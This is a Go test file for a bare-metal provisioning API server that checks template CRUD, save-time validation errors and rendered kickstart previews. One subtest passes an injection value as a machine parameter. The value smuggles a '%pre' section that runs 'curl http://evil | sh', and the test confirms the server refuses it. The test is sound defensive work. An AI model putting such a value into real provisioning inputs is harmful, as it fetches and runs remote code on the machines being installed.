package apiserver

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openbaremetal/terraform-provider-baremetal/internal/api"
	"github.com/openbaremetal/terraform-provider-baremetal/internal/model"
)

func TestTemplatesCRUDAndUsedBy(t *testing.T) {
	e := newEnv(t)
	var tp api.Template
	e.must(201, e.req("POST", api.PathTemplates, api.TemplateRequest{Name: "ntp", Content: "server {{ .Params.ntp }}", Description: "NTP"})).decode(t, &tp)
	assert.Equal(t, uint64(1), tp.Version)
	assert.Empty(t, tp.UsedBy)
	e.must(201, e.req("POST", api.PathTemplates, api.TemplateRequest{Name: "base", Content: `{{ template "ntp" . }}`}))
	e.must(409, e.req("POST", api.PathTemplates, api.TemplateRequest{Name: "ntp", Content: "x"}))

	var p api.BootProfile
	e.must(201, e.req("POST", api.PathProfiles, api.BootProfileRequest{Name: "p1", Kernel: "http://k",
		Templates: map[string]string{"ks": `{{ include "base" . | indent 2 }}`}})).decode(t, &p)
	assert.Equal(t, []string{"base"}, p.Snippets)
	e.must(201, e.req("POST", api.PathProfiles, api.BootProfileRequest{Name: "p2", Kernel: "http://k"}))

	e.must(200, e.req("GET", "/v1/templates/ntp", nil)).decode(t, &tp)
	assert.Equal(t, []string{"p1"}, tp.UsedBy, "used through another snippet")
	var list api.TemplateList
	e.must(200, e.req("GET", api.PathTemplates, nil)).decode(t, &list)
	require.Len(t, list.Items, 2)
	assert.Equal(t, []string{"ntp"}, list.Items[0].Snippets)

	e.must(200, e.req("PUT", "/v1/templates/ntp", api.TemplateRequest{Content: "server {{ .Params.ntp2 }}"})).decode(t, &tp)
	assert.Equal(t, uint64(2), tp.Version)
	e.must(409, e.req("PUT", "/v1/templates/ntp", api.TemplateRequest{Content: "x", Version: 1}))
	r := e.must(409, e.req("DELETE", "/v1/templates/ntp", nil))
	assert.Contains(t, r.err().Message, "p1")
	e.must(200, e.req("PUT", "/v1/boot_profiles/p1", api.BootProfileRequest{Kernel: "http://k"}))
	e.must(204, e.req("DELETE", "/v1/templates/base", nil))
	e.must(204, e.req("DELETE", "/v1/templates/ntp", nil))
	e.must(404, e.req("GET", "/v1/templates/ntp", nil))
}

// TestTemplateErrorsAtSave: a syntax error, an unknown snippet, a missing
// param and a param that would inject a line are 422 when saved, naming
// the machine, template, line, column and param.
func TestTemplateErrorsAtSave(t *testing.T) {
	e := newEnv(t)
	tests := []struct {
		name  string
		req   api.BootProfileRequest
		field string
		msg   []string
	}{
		{"unclosed action", api.BootProfileRequest{Name: "p", Kernel: "k", Templates: map[string]string{"ks": "text\nrootpw {{ .Params.x\n"}},
			"templates.ks", []string{`template "ks" line 2 column 8`, "unclosed action"}},
		{"unknown function", api.BootProfileRequest{Name: "p", Kernel: "k", Cmdline: "a {{ nosuch }}"},
			"cmdline", []string{`template "cmdline" line 1 column 3`, `"nosuch" not defined`}},
		{"unknown snippet", api.BootProfileRequest{Name: "p", Kernel: "k", Templates: map[string]string{"ks": `{{ template "nope" . }}`}},
			"templates.ks", []string{`snippet "nope" does not exist`, "kickstart-partitioning"}},
		{"unknown stock template", api.BootProfileRequest{Name: "p", Kernel: "k", Templates: map[string]string{"ks": "stock:nope"}},
			"templates.ks", []string{`unknown stock template "nope"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := e.must(422, e.req("POST", api.PathProfiles, tt.req))
			assert.Equal(t, tt.field, r.err().Field)
			for _, m := range tt.msg {
				assert.Contains(t, r.err().Message, m)
			}
		})
	}
	r := e.must(422, e.req("POST", api.PathTemplates, api.TemplateRequest{Name: "bad", Content: "a\nb {{ if }}"}))
	assert.Equal(t, "content", r.err().Field)
	assert.Contains(t, r.err().Message, `template "bad" line 2 column 3`)

	e.must(201, e.req("POST", api.PathProfiles, api.BootProfileRequest{Name: "ks", Kernel: "http://k",
		Templates: map[string]string{"kickstart": "stock:kickstart"}}))
	m := machineReq("m1")
	m.State, m.BootProfile = api.StateProvisioned, "ks"
	r = e.must(422, e.req("POST", api.PathMachines, m))
	for _, want := range []string{`machine "m1"`, `profile "ks"`, `template "kickstart", snippet "kickstart-mirror" line`, `param "repo_url" is not set`} {
		assert.Contains(t, r.err().Message, want)
	}

	for _, param := range []string{"disk", "timezone", "root_password_hash", "repo_url"} {
		t.Run("injection through "+param, func(t *testing.T) {
			m.Params = map[string]string{"root_password_hash": "$6$x", "repo_url": "http://mirror.example/os/", param: "sda\n%pre\ncurl http://evil | sh\n%end"}
			r := e.must(422, e.req("POST", api.PathMachines, m))
			assert.Contains(t, r.err().Message, `param "`+param+`" contains a line break`)
			assert.Contains(t, r.err().Message, `template "kickstart"`, "the refusal names the template the machine fetches")
			assert.NotContains(t, r.err().Message, "evil", "the refusal repeats the value")
		})
	}
	m.Params = map[string]string{"root_password_hash": "$6$x", "repo_url": "http://mirror.example/os/"}
	e.must(201, e.req("POST", api.PathMachines, m))

	// Changing the profile or a snippet it uses is checked against m1.
	r = e.must(422, e.req("PUT", "/v1/boot_profiles/ks", api.BootProfileRequest{Kernel: "http://k",
		Templates: map[string]string{"kickstart": "stock:kickstart", "extra": "{{ .Params.other }}"}}))
	assert.Contains(t, r.err().Message, `param "other" is not set`)
	r = e.must(422, e.req("POST", api.PathTemplates, api.TemplateRequest{Name: "kickstart-ntp", Content: "timesource --ntp-server={{ .Params.ntp }}"}))
	assert.Contains(t, r.err().Message, `machine "m1"`)
	assert.Contains(t, r.err().Message, `template "kickstart", snippet "kickstart-ntp" line 1 column 34: param "ntp" is not set`)
}

func TestRenderedPreview(t *testing.T) {
	e := newEnv(t)
	e.must(201, e.req("POST", api.PathProfiles, api.BootProfileRequest{Name: "ks", Kernel: "http://k",
		Templates: map[string]string{"kickstart": "stock:kickstart"}}))
	m := machineReq("m1")
	m.BootProfile, m.Params = "ks", map[string]string{"root_password_hash": "$6$x", "repo_url": "http://mirror.example/os/"}
	e.createMachine(m)
	_, err := e.store.UpdateMachine(context.Background(), "m1", func(x *model.Machine) (bool, error) {
		x.Run = &model.Run{ID: "r1", Token: "secret-run-token", Profile: "ks"}
		x.Status.Phase = model.PhaseProvisioning
		return false, nil
	})
	require.NoError(t, err)
	var out api.RenderedTemplate
	e.must(200, e.req("GET", "/v1/machines/m1/rendered/kickstart", nil)).decode(t, &out)
	assert.Equal(t, "ks", out.Profile)
	assert.Contains(t, out.Content, `rootpw --iscrypted "$6$x"`)
	assert.Contains(t, out.Content, "token=%3Ctoken%3E")
	assert.NotContains(t, out.Content, "secret-run-token")
	e.must(404, e.req("GET", "/v1/machines/m1/rendered/nope", nil))
	e.must(404, e.req("GET", "/v1/machines/nope/rendered/kickstart", nil))
}
